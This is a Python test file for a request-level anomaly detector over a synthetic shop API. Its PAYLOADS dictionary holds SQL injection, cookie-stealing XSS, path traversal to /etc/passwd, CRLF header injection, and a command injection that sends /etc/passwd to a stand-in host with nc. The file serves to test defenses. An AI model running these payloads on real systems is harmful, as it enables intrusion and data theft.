"""Behaviour of the request-level models on a small, self-contained shop API.

The fixture is built here (not by the simulator) so that the tests say exactly which values are
normal: searches with apostrophes, names like O'Brien, JSON and form bodies, ids in paths.
"""

from __future__ import annotations

import json
import random
import re
import shutil
import unicodedata
from pathlib import Path
from urllib.parse import quote_plus

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

from projects.core.cli import StageError
from projects.traffic import csic_eval
from projects.traffic.csic import simulate_csic
from projects.traffic.requests_model import RequestModel, SupervisedRequestModel

FIRST = ["Mary", "Liam", "Olivia", "Noah", "Zoë", "José", "Aoife", "Wei", "Priya", "Jean-Luc"]
FIRST += ["Siobhán", "Mateo", "Chloé", "Łukasz", "Fatima", "Kwame", "Yuki", "Björn", "Ana"]
LAST = ["Smith", "O'Brien", "D'Angelo", "O'Connor", "Müller", "García", "McAllister", "Nowak"]
LAST += ["Fitzgerald-Smith", "Kim", "Okafor", "Rossi", "Dubois", "van der Berg", "St. John"]
WORDS = ["usb-c", "cable", "levi's", "501", "kids'", "shoes", "o'neill", "jacket", "tom & jerry"]
WORDS += ["dvd", "100%", "cotton", "shirt", "dad's", "gift", "women's", "men's", "running"]
WORDS += ["coffee", "grinder", "yoga", "mat", "blender", "what's", "best", "rock 'n' roll"]
WORDS += ["vinyl", "lamp", "desk", "red", "xl", "wireless", "earbuds", "case", "winter"]
SORTS = ["relevance", "price_asc", "price_desc", "newest"]
DOMAINS = ["gmail.com", "outlook.com", "web.de", "proton.me"]


def _request(method: str, path: str, query: str = "", body: str = "", client: int = 0) -> dict:
    return {
        "client_ip": f"10.0.{client // 250}.{client % 250}",
        "user_agent": "Mozilla/5.0 (test)",
        "method": method,
        "path": path,
        "query": query,
        "body": body,
    }


def _search(text: str, page: int = 1, sort: str = "relevance") -> str:
    return f"q={quote_plus(text)}&page={page}&sort={sort}"


def _account(name: str, email: str) -> str:
    return f"name={quote_plus(name)}&email={quote_plus(email)}"


def _cart(product_id: object, quantity: object) -> str:
    return json.dumps({"product_id": product_id, "quantity": quantity})


def _ascii(name: str) -> str:
    """An e-mail's local part from a first name: José -> jose."""
    decomposed = unicodedata.normalize("NFKD", name.lower().replace("ł", "l"))
    return decomposed.encode("ascii", "ignore").decode()


def _normal(r: random.Random, client: int) -> dict:
    kind = r.random()
    if kind < 0.35:
        text = " ".join(r.sample(WORDS, r.randint(1, 3)))
        query = _search(text, r.randint(1, 5), r.choice(SORTS))
        return _request("GET", "/api/products", query, client=client)
    if kind < 0.55:
        return _request("GET", f"/api/products/{r.randint(1, 5000)}", client=client)
    if kind < 0.75:
        body = _cart(r.randint(1, 5000), r.choice([1, 1, 1, 2, 3, 5, 10]))
        return _request("POST", "/api/cart", body=body, client=client)
    if kind < 0.9:
        first, last = r.choice(FIRST), r.choice(LAST)
        email = f"{_ascii(first)}.{r.randint(1, 99)}@{r.choice(DOMAINS)}"
        return _request("POST", "/account", body=_account(f"{first} {last}", email), client=client)
    return _request("GET", "/static/css/app.css", client=client)


@pytest.fixture(scope="module")
def normal() -> pd.DataFrame:
    r = random.Random(7)
    return pd.DataFrame([_normal(r, r.randrange(150)) for _ in range(4000)])


@pytest.fixture(scope="module")
def model(normal: pd.DataFrame) -> RequestModel:
    return RequestModel(fpr=0.005, seed=0).fit(normal)


def _frame(*requests: dict) -> pd.DataFrame:
    return pd.DataFrame(list(requests))


PAYLOADS = {
    "sqli": "' OR '1'='1' --",
    "xss": "<script>alert(document.cookie)</script>",
    "path_traversal": "../../../../etc/passwd",
    "cmd_injection": "; cat /etc/passwd | nc evil.example 4444",
    "crlf": "shoes\r\nSet-Cookie: session=attacker",
    "overlong": "A" * 3000,
}


def test_a_normal_request_scores_below_the_threshold(model: RequestModel) -> None:
    requests = _frame(
        _request("GET", "/api/products", _search("coffee grinder", 2, "newest")),
        _request("GET", "/api/products/4321"),
        _request("POST", "/api/cart", body=_cart(17, 2)),
    )
    assert (model.score(requests) < model.threshold_).all()


@pytest.mark.parametrize("kind", sorted(PAYLOADS))
def test_each_payload_in_a_known_parameter_scores_above_the_threshold(
    model: RequestModel, kind: str
) -> None:
    payload = PAYLOADS[kind]
    requests = _frame(
        _request("GET", "/api/products", _search(payload)),
        _request("POST", "/account", body=_account(payload, "mary.3@gmail.com")),
    )
    assert (model.score(requests) >= model.threshold_).all()


@pytest.mark.parametrize(
    "body",
    [_cart(17, -5), _cart(17, 100000000), _cart("17", 2), _cart(17, "1 OR 1=1")],
    ids=["negative", "huge", "string id", "text quantity"],
)
def test_parameter_tampering_scores_above_the_threshold(model: RequestModel, body: str) -> None:
    requests = _frame(_request("POST", "/api/cart", body=body))
    assert model.score(requests)[0] >= model.threshold_


def test_legitimate_apostrophes_are_not_flagged(model: RequestModel) -> None:
    # names and searches never seen as a whole, made of familiar parts
    requests = _frame(
        _request("POST", "/account", body=_account("Siobhán O'Brien", "siobhan.7@proton.me")),
        _request("POST", "/account", body=_account("Noah D'Angelo", "noah.12@web.de")),
        _request("GET", "/api/products", _search("men's rock 'n' roll shirt")),
        _request("GET", "/api/products", _search("what's o'neill")),
    )
    assert (model.score(requests) < model.threshold_).all()


def test_an_unknown_endpoint_scores_higher_than_a_known_one(model: RequestModel) -> None:
    known, unknown, probe = model.score(
        _frame(
            _request("GET", "/api/products/12"),
            _request("GET", "/api/orders/12"),
            _request("GET", "/.git/config"),
        )
    )
    assert known < unknown and known < probe
    assert probe >= model.threshold_


def test_reasons_name_the_parameter_that_carried_the_payload(model: RequestModel) -> None:
    requests = _frame(
        _request("GET", "/api/products", _search("yoga mat", 1, PAYLOADS["sqli"])),
        _request("POST", "/account", body=_account("Mary Smith", PAYLOADS["xss"])),
        _request("POST", "/api/cart", body=_cart(17, "1 OR 1=1")),
    )
    reasons = model.explain(requests, top=3)
    assert [r[0].feature for r in reasons] == ["sort", "email", "quantity"]
    for request_reasons in reasons:
        assert 0 < sum(r.share for r in request_reasons) <= 1 + 1e-6
        assert all(r.problem for r in request_reasons)


def test_an_integer_in_a_numeric_parameter_is_judged_as_a_number_not_by_its_digits() -> None:
    # a dashboard's time window, polled every 5 s for an hour of training
    start = 1_710_120_000
    normal = pd.DataFrame(
        [
            _request("GET", "/api/stats", f"from={t}&to={t + 3600}", client=k % 20)
            for k, t in enumerate(range(start, start + 3600, 5))
        ]
    )
    model = RequestModel(fpr=0.01, seed=0).fit(normal)
    later = start + 5 * 86_400 + 4321  # another day: digit 3-grams training never had
    window, injected = model.score(
        _frame(
            _request("GET", "/api/stats", f"from={later}&to={later + 3600}"),
            _request("GET", "/api/stats", f"from={later}&to={later}%27%20OR%201=1--"),
        )
    )
    assert window < model.threshold_ <= injected


def test_an_unknown_parameter_is_named(model: RequestModel) -> None:
    query = _search("yoga mat") + "&debug=1"
    (reasons,) = model.explain(_frame(_request("GET", "/api/products", query)))
    assert reasons[0].feature == "debug"
    assert "never seen" in reasons[0].problem


def test_save_and_load_give_identical_scores(model: RequestModel, normal, tmp_path) -> None:
    path = tmp_path / "requests.npz"
    model.save(path)
    loaded = RequestModel.load(path)
    sample = pd.concat([normal.iloc[:200], _frame(_request("GET", "/x", "a=<b>"))])
    np.testing.assert_array_equal(model.score(sample), loaded.score(sample))
    assert loaded.threshold_ == model.threshold_
    assert loaded.explain(sample.iloc[-1:]) == model.explain(sample.iloc[-1:])


def test_fit_is_deterministic(model: RequestModel, normal: pd.DataFrame) -> None:
    again = RequestModel(fpr=0.005, seed=0).fit(normal)
    sample = pd.concat([normal.iloc[:300], _frame(_request("GET", "/api/products", "q=%3C"))])
    np.testing.assert_array_equal(model.score(sample), again.score(sample))
    assert again.threshold_ == model.threshold_


def test_scores_do_not_depend_on_the_batch(model: RequestModel, normal: pd.DataFrame) -> None:
    sample = normal.iloc[:50]
    one_by_one = np.concatenate([model.score(sample.iloc[[i]]) for i in range(len(sample))])
    np.testing.assert_allclose(model.score(sample), one_by_one)


def test_the_threshold_keeps_held_out_false_positives_near_the_target(normal) -> None:
    r = random.Random(99)
    fresh = pd.DataFrame([_normal(r, 1000 + r.randrange(100)) for _ in range(2000)])
    model = RequestModel(fpr=0.01, seed=0).fit(normal)
    assert (model.score(fresh) >= model.threshold_).mean() <= 0.03


def test_the_supervised_model_learns_payloads_and_round_trips(normal, tmp_path) -> None:
    r = random.Random(3)
    attacks = [
        _request("GET", "/api/products", _search(r.choice(list(PAYLOADS.values())) + str(i)))
        for i in range(300)
    ]
    frame = pd.concat([normal.iloc[:1500], pd.DataFrame(attacks)], ignore_index=True)
    labels = np.r_[np.zeros(1500), np.ones(len(attacks))]
    model = SupervisedRequestModel().fit(frame, labels)
    test = _frame(
        _request("GET", "/api/products", _search("yoga mat")),
        _request("GET", "/api/products", _search("' OR '1'='1' -- x")),
    )
    assert list(model.predict(test)) == [False, True]
    path = tmp_path / "supervised.skops"
    model.save(path)
    np.testing.assert_array_equal(SupervisedRequestModel.load(path).score(test), model.score(test))


@pytest.fixture(scope="module")
def csic_folder(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("csic")
    simulate_csic(folder, n_normal_train=1500, n_normal_test=800, n_anomalous=500, seed=1)
    return folder


def test_the_csic_evaluation_prints_both_models_scores(csic_folder: Path) -> None:
    result = CliRunner().invoke(csic_eval.app, ["--csic", str(csic_folder)])
    assert result.exit_code == 0, result.output
    last = json.loads(result.stdout.strip().splitlines()[-1])
    assert set(last) == {"unsupervised", "supervised", "requests"}
    assert last["requests"] == 2800
    for name in ("unsupervised", "supervised"):
        assert set(last[name]) == {"roc_auc", "tpr_at_1pct_fpr", "precision", "recall", "f1"}
    assert last["unsupervised"]["roc_auc"] > 0.9


@pytest.mark.parametrize("problem", ["no folder", "no file", "empty file", "malformed request"])
def test_the_csic_evaluation_names_bad_input(csic_folder: Path, tmp_path: Path, problem) -> None:
    folder = tmp_path / "csic"
    if problem != "no folder":
        shutil.copytree(csic_folder, folder)
    target = folder / "normalTrafficTest.txt"
    if problem == "no file":
        target.unlink()
    elif problem == "empty file":
        target.write_bytes(b"")
    elif problem == "malformed request":
        target.write_bytes(target.read_bytes() + b"GET nothing-like-a-request\r\n\r\n")
    with pytest.raises(StageError, match=r"normalTrafficTest|no such directory") as caught:
        csic_eval.read_folder(folder)
    if problem == "malformed request":
        assert re.search(r"normalTrafficTest\.txt, line \d+: not a request line", str(caught.value))
